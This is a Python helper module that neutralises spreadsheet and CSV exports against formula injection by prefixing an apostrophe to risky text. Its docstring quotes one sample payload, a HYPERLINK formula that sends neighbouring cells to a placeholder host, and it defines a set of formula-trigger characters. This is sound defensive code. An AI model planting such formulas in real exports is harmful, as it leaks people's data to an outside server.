"""Helpers every spreadsheet or CSV export uses, so that data typed by clerks and members can
never turn into a formula on somebody else's machine (CSV or formula injection).

A payee named ``=HYPERLINK("http://x/?"&A1,"点击")`` would otherwise leak the neighbouring cells
the moment an office clerk or a bank teller opens the file. Following the OWASP guidance
(https://owasp.org/www-community/attacks/CSV_Injection), a text value whose first character is
one a spreadsheet reads as the start of a formula gets an apostrophe in front of it. The
apostrophe is part of the value itself, not only of a cell's style, so the protection survives
when the workbook is saved again as CSV or pasted into another program.
"""

from __future__ import annotations

# = + - @ start a formula; a tab or line break in front of them is swallowed by some programs
# (and tab and CR are on OWASP's list). The full-width forms come from Chinese input methods
# and are read as formulas by some spreadsheet programs in CJK locales.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")


def neutralise[T](value: T) -> T | str:
    """``value`` made safe for a spreadsheet cell.

    Text that a spreadsheet could evaluate (it starts with one of ``FORMULA_TRIGGERS``, possibly
    after leading spaces) comes back with an apostrophe in front; any other text, and every
    value that is not text (numbers, dates, None), comes back unchanged. Numbers must therefore
    be passed as numbers: ``"-2"`` as text is neutralised, ``Decimal("-2")`` is not.
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_TRIGGERS or value.lstrip(" \u3000")[:1] in FORMULA_TRIGGERS:
        return "'" + value
    return value
